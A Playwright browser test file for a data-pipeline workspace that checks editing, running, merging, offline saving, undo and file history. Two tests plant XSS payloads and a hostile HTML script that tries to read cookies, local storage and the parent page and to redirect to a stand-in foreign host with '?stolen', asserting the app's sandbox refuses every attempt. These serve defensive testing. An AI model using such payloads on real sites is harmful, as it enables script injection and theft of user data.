"""The pipeline workspace: blocks written, run, broken, mended; files changed elsewhere; an absent server."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import App, no_violations
from tests.project import Project

LOAD = 'import pandas as pd\n\n\n@data_loader\ndef load():\n    return pd.DataFrame({"number": range(100)})\n'
CLEAN = '@transformer\ndef clean(frame):\n    return frame[frame["number"] > 9]\n'
SUM = '@custom\ndef total(frame):\n    return {"total": int(frame["number"].sum())}\n'
FILE = re.compile(r"/files/transformers(%2F|/)clean\.py$")
HOSTILE = "<img src=x onerror=window.pwned=1>"
BROKEN = CLEAN.replace('"number"', '"numbers"')


def card(page: Page, block: str) -> Locator:
    return page.get_by_role("region", name=re.compile(rf"^{block}, "))


def write(page: Page, block: str, text: str) -> None:
    """As somebody would paste it over what stands there."""
    code = card(page, block).get_by_role("textbox", name=f"Code of {block}")
    code.click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(text)


def read(project: Project, path: str) -> str:
    return (project.root / path).read_text()


def saved(page: Page) -> None:
    expect(page.get_by_role("status").filter(has_text=re.compile(r"^\s*Saved"))).to_be_visible()


def add(page: Page, kind: str, name: str) -> None:
    """From the list that is open: a kind, then its name in place."""
    page.get_by_role("combobox", name="Add a block").fill(kind)
    page.keyboard.press("Enter")
    field = page.get_by_role("textbox", name=re.compile("^Name of "))
    field.fill(name)
    field.press("Enter")
    expect(card(page, name)).to_be_visible()


def test_three_blocks_from_nothing_run_broken_mended_and_only_what_is_stale_runs_again(
    app: App, project: Project
) -> None:
    app.call("POST", "pipelines", data={"name": "fresh"})
    page = app.open("/pipelines/fresh")
    expect(page.get_by_role("heading", level=1)).to_have_text("fresh")
    no_violations(page)
    add(page, "data loader", "source")
    write(page, "source", LOAD)
    page.keyboard.press("Escape")
    page.keyboard.press("b")
    add(page, "transformer", "tidy")
    write(page, "tidy", CLEAN)
    page.keyboard.press("Escape")
    page.keyboard.press("b")
    add(page, "custom", "total")
    write(page, "total", SUM)
    saved(page)
    assert read(project, "transformers/tidy.py") == CLEAN

    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("region", name="Result of total")).to_contain_text("4905")
    expect(card(page, "tidy")).to_contain_text("90 × 1")
    page.keyboard.press("Escape")
    page.keyboard.press("k")
    grid = page.get_by_role("grid", name="Result of tidy")
    expect(grid.get_by_role("gridcell", name="10", exact=True)).to_be_visible()
    expect(page.get_by_text("90 rows × 1")).to_be_visible()
    no_violations(page)
    app.picture("workspace")

    write(page, "tidy", BROKEN)
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("heading", name="KeyError")).to_be_visible()
    expect(page.get_by_text("Failed · KeyError 'numbers' at line 3")).to_be_visible()
    page.get_by_role("button", name="transformers/tidy.py:3").click()
    expect(card(page, "tidy").locator(".cm-wrong")).to_contain_text('frame["numbers"]')
    expect(card(page, "tidy").get_by_role("textbox")).to_be_focused()
    no_violations(page)
    app.picture("workspace-failed")

    write(page, "tidy", CLEAN.replace("> 9", "> 19"))
    saved(page)
    run_stale = page.get_by_role("button", name="Run stale (2)")
    expect(run_stale).to_be_visible()
    before = len(app.call("GET", "runs")["items"])
    run_stale.click()
    expect(page.get_by_text("80 rows × 1")).to_be_visible()
    expect(page.get_by_role("button", name="Run stale (0)")).to_be_visible()
    runs = app.call("GET", "runs")["items"]
    assert len(runs) == before + 1
    ran = app.call("GET", f"runs/{runs[0]['id']}/block-runs")["items"]
    assert {row["block"] for row in ran if row["attempts"]} == {"tidy", "total"}


def test_a_change_on_disk_comes_in_and_one_under_ones_own_words_is_asked_about(app: App, project: Project) -> None:
    page = app.open("/pipelines/sales?block=clean")
    code = card(page, "clean").get_by_role("textbox", name="Code of clean")
    expect(code).to_contain_text("> 9")
    other = app.another()
    other.goto(f"{app.server.url}/pipelines/sales?block=clean")
    expect(card(other, "clean").get_by_role("textbox", name="Code of clean")).to_contain_text("> 9")

    write(page, "clean", CLEAN.replace("> 9", "> 11"))
    saved(page)
    expect(card(other, "clean").get_by_role("textbox", name="Code of clean")).to_contain_text("> 11")

    # Both write before either hears of the other: what was first stays, and the second is asked.
    held: list[str] = []
    page.route(FILE, lambda route: (held.append(route.request.method), route.abort())[1])
    write(page, "clean", "# mine\n" + CLEAN.replace("> 9", "> 11"))
    expect(card(page, "clean").get_by_role("alert")).to_contain_text("It is not saved.")
    project.write("transformers/clean.py", CLEAN.replace("> 9", "> 11") + "# theirs\n")
    page.unroute(FILE)
    page.keyboard.press("Control+s")
    bar = card(page, "clean").get_by_role("alert")
    expect(bar).to_contain_text("The file was changed elsewhere.")
    bar.get_by_role("button", name="Merge").click()
    merge = page.get_by_role("dialog")
    expect(merge.get_by_role("textbox", name="Merged")).to_contain_text("# mine")
    expect(merge.get_by_role("textbox", name="Merged")).to_contain_text("# theirs")
    no_violations(page)
    merge.get_by_role("button", name="Save the merged file").click()
    saved(page)
    assert read(project, "transformers/clean.py") == "# mine\n" + CLEAN.replace("> 9", "> 11") + "# theirs\n"


def test_what_is_typed_without_a_server_outlives_a_reload_and_is_saved_when_it_is_back(
    app: App, project: Project
) -> None:
    page = app.open("/pipelines/sales?block=clean")
    expect(card(page, "clean").get_by_role("textbox", name="Code of clean")).to_contain_text("> 9")
    page.route(FILE, lambda route: route.abort() if route.request.method == "PUT" else route.continue_())
    write(page, "clean", "# typed alone\n" + CLEAN)
    expect(page.get_by_text("Kept in this browser, not saved")).to_be_visible()
    page.reload()
    expect(card(page, "clean").get_by_role("textbox", name="Code of clean")).to_contain_text("# typed alone")
    assert "typed alone" not in read(project, "transformers/clean.py")
    page.unroute(FILE)
    page.keyboard.press("Control+s")
    saved(page)
    assert read(project, "transformers/clean.py") == "# typed alone\n" + CLEAN


def test_blocks_are_connected_renamed_and_removed_and_each_is_taken_back(app: App, project: Project) -> None:
    page = app.open("/pipelines/sales?block=clean")
    tree = page.get_by_role("tree", name="Blocks of sales")
    expect(tree.get_by_role("treeitem", name=re.compile(r"^clean ?, .*, 1 input"))).to_be_visible()
    card(page, "clean").get_by_role("button", name="More for clean").click()
    page.get_by_role("menuitem", name="Connect to…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("option", name="load")).to_contain_text("it would be a circle")
    no_violations(page)
    dialog.get_by_role("radio", name="reads", exact=True).check()
    dialog.get_by_role("option", name="load").click()
    expect(tree.get_by_role("treeitem", name=re.compile(r"^clean ?, .*, 0 inputs"))).to_be_visible()
    page.get_by_role("button", name="Undo").click()
    expect(tree.get_by_role("treeitem", name=re.compile(r"^clean ?, .*, 1 input"))).to_be_visible()

    card(page, "clean").focus()
    page.keyboard.press("F2")
    field = page.get_by_role("textbox", name="Name of clean")
    field.fill("tidy")
    field.press("Enter")
    expect(card(page, "tidy")).to_be_visible()
    assert "tidy" in read(project, "pipelines/sales/metadata.yaml")
    page.keyboard.press("d")
    page.keyboard.press("d")
    expect(card(page, "tidy")).to_have_count(0)
    page.get_by_role("button", name="Undo").last.click()
    expect(card(page, "tidy")).to_be_visible()


def test_hostile_words_stay_words(start: Callable[..., App], project: Project) -> None:
    project.pipeline(
        "hostile",
        {
            "kind": "loader",
            "id": "load",
            "code": """
                import pandas as pd

                @data_loader
                def load():
                    print("\\x1b[31m<img src=x onerror='window.pwned=1'>\\x1b[0m")
                    name = "<b onmouseover='window.pwned=1'>"
                    return pd.DataFrame({name: ["<script>window.pwned=1</script>", "x" * 100_000, "a\\nb"]})
            """,
        },
    )
    app = start()
    page = app.open("/pipelines/hostile")
    page.get_by_role("button", name="Run load", exact=True).click()
    cell = page.get_by_role("gridcell", name=re.compile("^<script>"))
    expect(cell).to_be_visible()
    cell.dblclick()
    expect(page.get_by_role("region", name=re.compile("of row 1"))).to_contain_text("<script>window.pwned=1</script>")
    page.get_by_role("tab", name="Text").click()
    expect(page.get_by_role("log")).to_contain_text("<img src=x onerror='window.pwned=1'>")
    assert page.evaluate("window.pwned") is None


def test_a_pipeline_of_five_hundred_blocks_stays_light(start: Callable[..., App], project: Project) -> None:
    blocks = [
        {
            "kind": "custom",
            "id": f"step_{number}",
            "after": [f"step_{(number - 1) // 2}"] if number else [],
            "code": f"@custom\ndef step(*inputs):\n    return {number}\n",
        }
        for number in range(500)
    ]
    project.pipeline("wide", *blocks)
    app = start()
    page = app.open("/pipelines/wide")
    expect(card(page, "step_0").get_by_role("textbox", name="Code of step_0")).to_be_visible()
    expect(page.get_by_role("tree").get_by_role("treeitem").first).to_be_visible()
    page.goto(f"{app.server.url}/pipelines/wide?block=step_250")
    expect(card(page, "step_250").get_by_role("textbox")).to_be_visible()
    assert page.locator("*").count() < 6_000
    assert page.locator(".cm-editor").count() <= 12


@pytest.fixture
def foreign_host() -> Iterator[tuple[str, list[str]]]:
    """Its address, and what was asked of it."""
    asked: list[str] = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

    with ThreadingHTTPServer(("127.0.0.1", 0), Recorder) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def test_figures_are_seen_and_hostile_html_reaches_nothing(
    start: Callable[..., App], project: Project, foreign_host: tuple[str, list[str]]
) -> None:
    foreign, asked = foreign_host
    project.pipeline(
        "drawn",
        {
            "kind": "custom",
            "id": "draw",
            "code": f"""
                FOREIGN = {foreign!r}
                """
            """
                import matplotlib
                matplotlib.use("Agg")
                from matplotlib import pyplot as plt
                import plotly.graph_objects as go

                class Hostile:
                    def _repr_html_(self):
                        return '''<p id="told"></p><script>
                            const told = [];
                            const attempt = (what, act) => {
                                let answer;
                                try { answer = act() ?? "nothing" } catch { answer = "refused" }
                                told.push(what + ":" + answer);
                            };
                            attempt("cookie", () => document.cookie);
                            attempt("store", () => localStorage.length);
                            attempt("parent", () => parent.document.title);
                            attempt("top", () => { top.location = "about:blank" });
                            fetch("/api/v1/me").then(() => "reached", () => "refused").then(answer => {
                                told.push("network:" + answer);
                                document.getElementById("told").textContent = told.join(" ");
                            });
                        </script>'''

                class Away:
                    def _repr_html_(self):
                        return f"<img src='{FOREIGN}image'><script>location = '{FOREIGN}page?stolen'</script>"

                @custom
                def draw():
                    plt.plot([1, 2])
                    plt.show()
                    display(go.Figure(go.Bar(x=["a"], y=[2], name="bars")), Hostile(), Away())
                    return Hostile()
            """,
        },
    )
    app = start()
    page = app.open("/pipelines/drawn?tab=figures")
    page.get_by_role("button", name="Run draw", exact=True).click()
    picture = page.get_by_role("img", name="Figure 1")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") > 100
    frame = page.locator("iframe[title='Figure 2']")
    frame.scroll_into_view_if_needed()
    expect(frame.content_frame.locator(".bars .point")).to_be_visible()
    page.locator("iframe[title='Figure 3']").scroll_into_view_if_needed()
    refused = "cookie:refused store:refused parent:refused top:refused network:refused"
    expect(page.locator("iframe[title='Figure 3']").content_frame.locator("#told")).to_have_text(refused)
    page.locator("iframe[title='Figure 4']").scroll_into_view_if_needed()
    app.picture("workspace-figures")
    page.get_by_role("tab", name="Value").click()
    expect(page.get_by_title("Result of draw").content_frame.locator("#told")).to_have_text(refused)
    assert asked == []
    # What the browser refused it tells in the console: that is what was wanted.
    expected = re.compile("Content Security Policy|sandboxed|Unsafe attempt")
    app.complaints[:] = [each for each in app.complaints if not expected.search(each)]


def test_what_runs_is_stopped_where_it_was_started(start: Callable[..., App], project: Project) -> None:
    code = "import threading\n\n@custom\ndef wait():\n    threading.Event().wait()\n"
    project.pipeline("slow", {"kind": "custom", "id": "wait", "code": code})
    page = start().open("/pipelines/slow")
    page.get_by_role("button", name="Run wait", exact=True).click()
    stop = card(page, "wait").get_by_role("button", name="Stop wait")
    expect(card(page, "wait")).to_have_accessible_name(re.compile("running"))
    stop.click()
    expect(stop).to_have_count(0)
    expect(page.get_by_role("button", name="Run wait", exact=True)).to_be_visible()
    expect(card(page, "wait")).to_contain_text("Cancelled")


def test_a_setting_goes_into_the_file_and_its_comments_stay(app: App, project: Project) -> None:
    path = "pipelines/sales/metadata.yaml"
    project.write(path, "# kept by hand\n" + read(project, path))
    page = app.open("/pipelines/sales?block=clean&panel=settings")
    sheet = page.get_by_role("dialog", name="Settings of clean")
    sheet.get_by_label("retry config · retries").fill("3")
    sheet.get_by_role("button", name="Save").click()
    expect(sheet).to_have_count(0)
    text = read(project, path)
    assert text.startswith("# kept by hand\n")
    assert "retries: 3" in text
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("button", name="Undo")).to_have_count(0)
    card(page, "clean").focus()
    page.keyboard.press("s")
    expect(sheet.get_by_label("retry config · retries")).not_to_have_value("3")


def test_an_earlier_text_is_had_back_from_the_history(app: App, project: Project) -> None:
    before = read(project, "transformers/clean.py")
    page = app.open("/pipelines/sales?block=clean")
    code = card(page, "clean").get_by_role("textbox", name="Code of clean")
    expect(code).to_contain_text("> 9")
    write(page, "clean", CLEAN.replace("> 9", "> 50"))
    saved(page)
    page.keyboard.press("Escape")
    write(page, "clean", CLEAN.replace("> 9", "> 60"))
    saved(page)
    card(page, "clean").get_by_role("button", name="More for clean").click()
    page.get_by_role("menuitem", name="History of the file").click()
    sheet = page.get_by_role("dialog", name="History of transformers/clean.py")
    sheet.get_by_role("listitem").last.get_by_role("button").click()
    no_violations(page)
    sheet.get_by_role("button", name="Restore this version").click()
    expect(sheet).to_have_count(0)
    expect(code).not_to_contain_text("> 60")
    assert read(project, "transformers/clean.py") in (before, CLEAN.replace("> 9", "> 50"))


def test_a_file_is_made_renamed_and_deleted_in_the_tree(app: App, project: Project) -> None:
    page = app.open("/pipelines/sales?side=files")
    page.get_by_role("button", name="New file").click()
    field = page.get_by_role("textbox", name=re.compile("^Name of "))
    field.fill("notes.md")
    field.press("Enter")
    expect(page.get_by_role("link", name="notes.md")).to_be_visible()
    page.get_by_role("button", name="More for notes.md").click()
    page.get_by_role("menuitem", name="Rename or move").click()
    field = page.get_by_role("textbox", name="Name of notes.md")
    field.fill("words.md")
    field.press("Enter")
    expect(page.get_by_role("link", name="words.md")).to_be_visible()
    assert not (project.root / "notes.md").exists()
    page.get_by_role("button", name="More for words.md").click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.get_by_role("link", name="words.md")).to_have_count(0)
    assert not (project.root / "words.md").exists()


def test_a_block_runs_with_variables_of_this_one_time_and_says_why_it_stands_so(
    start: Callable[..., App], project: Project
) -> None:
    code = "@custom\ndef greet(*args, **kwargs):\n    return {'word': kwargs.get('word', 'none')}\n"
    project.pipeline("greeting", {"kind": "custom", "id": "greet", "code": code})
    page = start().open("/pipelines/greeting")
    page.get_by_role("button", name="Ways to run greet").click()
    page.get_by_role("menuitem", name="Run with variables…").click()
    sheet = page.get_by_role("dialog", name="Run greet with variables")
    sheet.get_by_label("Name of variable 1").fill("word")
    sheet.get_by_label("Value of variable word").fill("hello")
    no_violations(page)
    sheet.get_by_role("button", name="Run", exact=True).click()
    expect(page.get_by_role("region", name="Result of greet")).to_contain_text("hello")
    card(page, "greet").focus()
    page.keyboard.press("w")
    expect(page.get_by_text(re.compile("^greet: (Fresh|Stale)"))).to_be_visible()


def test_a_pipeline_that_moves_data_shows_from_where_to_where_and_says_that_it_does_not_run(
    project: Project, start: Callable[..., App]
) -> None:
    project.pipeline("sync", {"kind": "loader", "id": "payments", "language": "yaml"}, type="integration")
    project.write("data_loaders/payments.yaml", "source: stripe\nconfig: {account: a}\n")
    streams = [{"stream": HOSTILE, "replication_method": "FULL_TABLE", "key_properties": ["id"]}]
    project.write("pipelines/sync/data_integration_catalog.json", json.dumps({"catalog": {"streams": streams}}))
    page = start().open("/pipelines/sync")
    moved = page.get_by_role("region", name="What it moves")
    expect(moved.get_by_role("note")).to_contain_text("integration do not run in this version")
    expect(moved.get_by_role("listitem")).to_contain_text("stripe")
    expect(moved.get_by_role("grid", name="Streams")).to_contain_text("full table")
    expect(moved.get_by_role("grid", name="Streams")).to_contain_text(HOSTILE)
    expect(page.get_by_role("button", name="Run", exact=True)).to_have_attribute("aria-disabled", "true")
    no_violations(page)
    write(page, "payments", "source: mysql\n")
    expect(moved.get_by_role("listitem")).to_contain_text("mysql")
